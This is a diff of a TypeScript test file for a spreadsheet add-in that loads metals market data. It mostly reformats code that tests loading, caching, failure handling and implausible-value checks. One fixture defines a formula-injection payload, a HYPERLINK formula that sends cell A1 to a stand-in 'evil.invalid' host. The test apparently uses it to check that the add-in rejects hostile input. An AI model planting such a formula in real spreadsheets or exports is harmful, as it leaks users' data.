@@ -42,7 +42,14 @@ function obs(edition: string, product: string, period: string, measure: Measure,
     provenance: { edition, section: product, sentence: `${product} ${measure} ${value} (saved-data fixture)`, start: 0, end: 10 },
   };
 }
-const ed = (id: string, observations: Observation[], sections: string[] = []): Edition => ({ id, source: `saved-data-${id}`, sections, observations, trends: [], issues: [] });
+const ed = (id: string, observations: Observation[], sections: string[] = []): Edition => ({
+  id,
+  source: `saved-data-${id}`,
+  sections,
+  observations,
+  trends: [],
+  issues: [],
+});
 
 const JAN = ed("2025-01", [obs("2025-01", "copper-cathode", "2025-01", "mom", -0.02)]);
 const FEB = ed("2025-02", [obs("2025-02", "copper-cathode", "2025-02", "mom", 0.0438), obs("2025-02", "refined-nickel", "2025-02", "mom", -0.0569)]);
@@ -56,7 +63,9 @@ const TEAM = "https://team.invalid/smm.json";
 function fakeFetch(routes: Record<string, string>): FetchLike {
   return async (url) => {
     const body = routes[url];
-    return body === undefined ? { ok: false, status: 404, statusText: "Not Found", text: async () => "" } : { ok: true, status: 200, statusText: "OK", text: async () => body };
+    return body === undefined
+      ? { ok: false, status: 404, statusText: "Not Found", text: async () => "" }
+      : { ok: true, status: 200, statusText: "OK", text: async () => body };
   };
 }
 
@@ -119,7 +128,12 @@ describe("a workbook part with bad character references loses only itself", () =
     expect(mom(rt, "refined-lead", "2025-06")).toBe(0.02); // team
     expect(mom(rt, "copper-cathode", "2025-02")).toBe(0.0438); // the part itself
     expect(mom(rt, "copper-cathode", "2025-03")).toBe(0.061);
-    expect(rt.loadStatus().sources.imported.issues.map((i) => i.message).join(" ")).toMatch(/character reference/);
+    expect(
+      rt
+        .loadStatus()
+        .sources.imported.issues.map((i) => i.message)
+        .join(" "),
+    ).toMatch(/character reference/);
     const team = storage.data.get(STORAGE_KEYS.teamCache);
     // an import afterwards writes the part with everything it held plus the new edition
     const res = await rt.importEditions([APR]);
@@ -134,7 +148,10 @@ describe("a workbook part with bad character references loses only itself", () =
     const workbook = new MemoryWorkbook();
     workbook.xml = editionsToXml([FEB]);
     let fail = true;
-    const reading = { read: async () => (fail ? Promise.reject(new Error("GeneralException")) : workbook.read()), write: (x: string | null) => workbook.write(x) };
+    const reading = {
+      read: async () => (fail ? Promise.reject(new Error("GeneralException")) : workbook.read()),
+      write: (x: string | null) => workbook.write(x),
+    };
     const rt = await started({ workbook: reading });
     expect(rt.loadStatus().phase).toBe("ready");
     expect(rt.loadStatus().sources.imported.message).toMatch(/GeneralException/);
@@ -153,7 +170,11 @@ describe("a workbook part with bad character references loses only itself", () =
     const storage = new MemoryStore();
     await storage.setItem(STORAGE_KEYS.imported, JSON.stringify(toDatasetFile([FEB])));
     let fail = true;
-    const flaky = { getItem: (k: string) => (fail && k === STORAGE_KEYS.imported ? Promise.reject(new Error("storage unavailable")) : storage.getItem(k)), setItem: (k: string, v: string) => storage.setItem(k, v), removeItem: (k: string) => storage.removeItem(k) };
+    const flaky = {
+      getItem: (k: string) => (fail && k === STORAGE_KEYS.imported ? Promise.reject(new Error("storage unavailable")) : storage.getItem(k)),
+      setItem: (k: string, v: string) => storage.setItem(k, v),
+      removeItem: (k: string) => storage.removeItem(k),
+    };
     const rt = await started({ storage: flaky });
     expect(rt.loadStatus().phase).toBe("ready");
     expect((await rt.importEditions([MAR])).cache.ok).toBe(false);
@@ -309,7 +330,11 @@ const FORMULA = '=HYPERLINK("https://evil.invalid/?leak="&A1,"click")';
 /** A 2025-02 edition with two good figures and one of every implausible thing, and a second 2025-02. */
 function implausibleFile(): { json: string; good: number; bad: number } {
   const id = "2025-02";
-  const good = [obs(id, "copper-cathode", "2025-02", "mom", 0.0438), obs(id, "refined-nickel", "2025-03", "mom", -0.01, "forecast"), obs(id, "stainless-steel", "2025-02", "output", 2_900_000, "actual", "300-series")];
+  const good = [
+    obs(id, "copper-cathode", "2025-02", "mom", 0.0438),
+    obs(id, "refined-nickel", "2025-03", "mom", -0.01, "forecast"),
+    obs(id, "stainless-steel", "2025-02", "output", 2_900_000, "actual", "300-series"),
+  ];
   const bad = [
     obs(id, "copper-cathode", "2025-02", "output", 1e308),
     obs(id, "refined-zinc", "2025-02", "mom", -5), // -500%
@@ -324,7 +349,17 @@ function implausibleFile(): { json: string; good: number; bad: number } {
   ];
   const sections = ["Copper Cathode", "y".repeat(100_000), FORMULA, "@SUM(A1)", "line\nbreak"];
   const main = ed(id, [...good, ...bad], sections);
-  main.trends = [{ product: "refined-lead", segment: FORMULA, period: "2025-02", basis: "actual", direction: "up", magnitude: "none", provenance: main.observations[0]!.provenance }];
+  main.trends = [
+    {
+      product: "refined-lead",
+      segment: FORMULA,
+      period: "2025-02",
+      basis: "actual",
+      direction: "up",
+      magnitude: "none",
+      provenance: main.observations[0]!.provenance,
+    },
+  ];
   const dup = ed(id, [obs(id, "copper-cathode", "2025-02", "mom", 0.99)]);
   return { json: JSON.stringify(toDatasetFile([main, dup, MAR])), good: good.length, bad: bad.length + (sections.length - 1) + 1 + 1 };
 }
@@ -343,7 +378,12 @@ function checkRead(r: ReturnType<typeof readDatasetFile>, f: ReturnType<typeof i
   const codes = r.issues.map((i) => i.code);
   expect(codes.filter((c) => c === "implausible")).toHaveLength(7);
   expect(codes.filter((c) => c === "duplicate-edition")).toHaveLength(1);
-  expect(r.issues.filter((i) => i.code === "implausible").map((i) => i.reason).sort()).toEqual(["implausible", "implausible", "implausible", "other-time", "other-time", "other-time", "other-time"]);
+  expect(
+    r.issues
+      .filter((i) => i.code === "implausible")
+      .map((i) => i.reason)
+      .sort(),
+  ).toEqual(["implausible", "implausible", "implausible", "other-time", "other-time", "other-time", "other-time"]);
   const text = r.issues.map((i) => i.message).join("\n");
   expect(text).toMatch(/operating rate of 750\.0% is outside 0-100%/);
   expect(text).toMatch(/a fall of 100% or more/);
@@ -364,7 +404,15 @@ describe("dataset files with implausible values, periods, names and ids", () => 
     const layers: [string, Partial<RuntimeDeps>, Record<string, string>][] = [
       ["team source", { defaultTeamUrl: TEAM, storage: new MemoryStore() }, { [TEAM]: f.json }],
       ["local cache", { storage: Object.assign(new MemoryStore(), { data: new Map([[STORAGE_KEYS.imported, f.json]]) }) }, {}],
-      ["workbook part", { workbook: Object.assign(new MemoryWorkbook(), { xml: `<smmDataset xmlns="${XML_NAMESPACE}">${f.json.replace(/&/g, "&amp;").replace(/</g, "&lt;")}</smmDataset>` }) }, {}],
+      [
+        "workbook part",
+        {
+          workbook: Object.assign(new MemoryWorkbook(), {
+            xml: `<smmDataset xmlns="${XML_NAMESPACE}">${f.json.replace(/&/g, "&amp;").replace(/</g, "&lt;")}</smmDataset>`,
+          }),
+        },
+        {},
+      ],
     ];
     for (const [layer, deps, routes] of layers) {
       const rt = new SmmRuntime();
@@ -386,7 +434,11 @@ describe("dataset files with implausible values, periods, names and ids", () => 
   test("an import (from the pane) is held to the same rules, so what is saved reloads the same", async () => {
     const workbook = new MemoryWorkbook();
     const rt = await started({ workbook });
-    const bad = ed("2025-04", [obs("2025-04", "refined-zinc", "2025-04", "mom", 0.012), obs("2025-04", "refined-zinc", "2025-07", "mom", 0.5, "forecast"), obs("2025-04", "copper-cathode", "2025-04", "operating_rate", 7.5)]);
+    const bad = ed("2025-04", [
+      obs("2025-04", "refined-zinc", "2025-04", "mom", 0.012),
+      obs("2025-04", "refined-zinc", "2025-07", "mom", 0.5, "forecast"),
+      obs("2025-04", "copper-cathode", "2025-04", "operating_rate", 7.5),
+    ]);
     await rt.importEditions([bad]);
     const st = rt.loadStatus().sources.imported;
     expect(st.issues.map((i) => i.code)).toEqual(["implausible", "implausible"]);
@@ -428,7 +480,10 @@ describe("dataset files with implausible values, periods, names and ids", () => 
     test("eval --reports: the same issues on stderr; answers on stdout", () => {
       const x = io('=SMM.MOM("copper","2025-02")\n=SMM.MOM("zinc","2025-02")\n=SMM.VALUE("copper","2025-02","operating_rate")\n');
       expect(cmdEval(["--reports", file], x)).toBe(0);
-      const lines = x.o.trim().split("\n").map((l) => JSON.parse(l) as { value?: unknown; error?: string });
+      const lines = x.o
+        .trim()
+        .split("\n")
+        .map((l) => JSON.parse(l) as { value?: unknown; error?: string });
       expect(lines[0]).toMatchObject({ value: 0.0438 });
       expect(lines[1]).toMatchObject({ error: "#N/A" });
       expect(lines[2]).toMatchObject({ error: "#N/A" });
@@ -496,7 +551,13 @@ describe("an endless or huge team-source body stops at the byte cap", () => {
 
   test("the runtime: the team source says so, the other layers answer", async () => {
     const rt = new SmmRuntime();
-    await rt.start({ fetch: async (url, init) => (url === BUNDLED ? fakeFetch(ROUTES)(url, init) : nodeFetch(url, init)), bundledUrl: BUNDLED, storage: new MemoryStore(), defaultTeamUrl: `${base}/endless-json`, timeoutMs: 20_000 });
+    await rt.start({
+      fetch: async (url, init) => (url === BUNDLED ? fakeFetch(ROUTES)(url, init) : nodeFetch(url, init)),
+      bundledUrl: BUNDLED,
+      storage: new MemoryStore(),
+      defaultTeamUrl: `${base}/endless-json`,
+      timeoutMs: 20_000,
+    });
     const st = rt.loadStatus().sources.team;
     expect(st.state).toBe("error");
     expect(st.message).toMatch(new RegExp(`larger than the ${MAX_DOWNLOAD_BYTES / 1024 ** 2} MB limit`));
